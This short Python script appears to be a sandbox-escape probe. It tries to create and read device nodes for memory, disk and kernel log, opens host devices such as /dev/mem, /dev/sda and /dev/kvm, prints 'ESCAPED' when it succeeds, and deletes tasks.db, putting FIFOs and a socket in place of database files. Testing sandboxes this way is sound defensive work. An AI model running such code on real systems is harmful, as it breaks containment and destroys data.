import os
import socket
import stat

for name, kind, device in (("mem", stat.S_IFCHR, os.makedev(1, 1)), ("disk", stat.S_IFBLK, os.makedev(254, 0)), ("kmsg", stat.S_IFCHR, os.makedev(1, 11))):
    try:
        os.mknod(name, 0o666 | kind, device)
        with open(name, "rb") as file:
            print("ESCAPED: read", name, file.read(16))
    except OSError:
        pass
for name in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/fuse", "/dev/kvm", "/dev/net/tun"):
    try:
        open(name, "rb").close()
        print("ESCAPED: opened", name)
    except OSError:
        pass
if os.path.exists("tasks.db"):
    os.unlink("tasks.db")
for name in ("tasks.db", "pipe.db"):
    if not os.path.exists(name):
        os.mkfifo(name)
if not os.path.exists("socket.db"):
    socket.socket(socket.AF_UNIX).bind("socket.db")
print("attack ran", flush=True)
os._exit(0)
